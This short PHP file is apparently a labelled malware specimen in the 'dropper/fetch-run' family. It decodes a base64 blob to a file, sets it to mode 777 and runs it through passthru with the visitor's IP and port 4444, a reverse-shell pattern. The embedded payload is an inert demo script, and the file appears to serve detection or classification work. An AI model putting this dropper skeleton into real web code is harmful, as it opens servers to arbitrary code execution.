<?php
// Family: dropper/fetch-run
// Style: helper binary carried as base64, written out by a small function, made executable and started through a wrapper
// Trait: base64_decode() output written to a file, a "chmod 777" shell command, command execution
function save_blob($where, $data) {
	$h = @fopen($where, "w");
	@fputs($h, @base64_decode($data));
	@fclose($h);
}
function run_it($c) {
	ob_start();
	@passthru($c);
	return ob_get_clean();
}
$helper = "IyEvYmluL3NoCmVjaG8gImRlbW8gaGVscGVyOiBub3RoaW5nIHRvIHNlZSIKZXhpdCAwCg==";
save_blob("hlpd", $helper);
run_it("chmod 777 hlpd");
echo run_it("./hlpd " . $_SERVER['REMOTE_ADDR'] . " 4444 &");
